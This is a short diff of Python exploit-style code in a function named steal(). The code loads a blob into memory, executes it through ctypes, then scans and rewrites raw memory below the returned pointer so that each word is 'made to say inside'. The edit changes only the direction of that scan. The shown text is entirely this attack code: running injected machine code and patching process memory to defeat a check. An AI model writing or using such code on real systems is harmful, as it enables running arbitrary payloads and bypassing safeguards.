@@ -20,8 +20,8 @@ def steal():
     memory.write(CODE)
     thread = ctypes.CFUNCTYPE(ctypes.c_ulong)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
     opener = libc().open
-    # What the loader laid out below the thread pointer: each word in turn is made to say "inside".
-    for at in range(thread - 4096, thread, 4):
+    # What the loader laid out below the thread pointer, nearest first: each word in turn is made to say "inside".
+    for at in range(thread - 4, thread - 4096, -4):
         before = ctypes.string_at(at, 4)
         if before != bytes(4):
             continue
